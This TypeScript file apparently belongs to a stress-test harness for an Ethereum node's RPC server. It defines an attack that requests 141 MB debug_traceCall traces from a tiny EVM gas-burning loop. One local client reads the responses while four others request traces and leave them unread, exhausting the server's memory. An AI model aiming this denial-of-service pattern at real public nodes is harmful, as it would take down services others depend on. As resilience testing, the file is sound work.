import { pause } from "../../pause.ts";
import { type CallerAttack, connectFrom, httpRequest } from "./callerAttack.ts";

/** PUSH1 and JUMPDEST in a loop until the gas is spent: a trace of 141 MB. */
const CALL = { data: "0x5b5a600056", gas: "0xf4240" };

/** A prompt reader asks for traces of 141 MB one after the other, and four others ask for them and read nothing. */
export const largeTrace: CallerAttack = {
  name: "traces of 141 MB, read and unread",
  options: ["--rpc-http-api=ETH,DEBUG"],
  prepare: async ({ port }) => {
    const request = httpRequest("debug_traceCall", [CALL, "latest"]);
    return async (isOver) => {
      const unread = Array.from({ length: 4 }, (_, index) =>
        keepUnread(port, `127.0.0.${3 + index}`, request, isOver),
      );
      await Promise.all([keepReading(port, request, isOver), ...unread]);
    };
  },
};

async function keepReading(port: number, request: string, isOver: () => boolean): Promise<void> {
  const bytes: number[] = [];
  while (!isOver())
    bytes.push(await readToEnd(port, `${request.replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n")}`));
  console.log(
    `answers to the prompt reader, MB: ${bytes.map((length) => Math.round(length / 1e6)).join(" ")}`,
  );
}

function readToEnd(port: number, request: string): Promise<number> {
  return new Promise((resolve) => {
    const socket = connectFrom("127.0.0.2", port);
    let bytes = 0;
    socket.on("data", (data) => {
      bytes += data.length;
    });
    socket.once("close", () => resolve(bytes));
    socket.write(request);
  });
}

async function keepUnread(port: number, from: string, request: string, isOver: () => boolean): Promise<void> {
  while (!isOver()) {
    const socket = connectFrom(from, port);
    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
    socket.write(request);
    while (!isOver() && !socket.destroyed) await Promise.race([closed, pause(100)]);
    socket.destroy();
  }
}
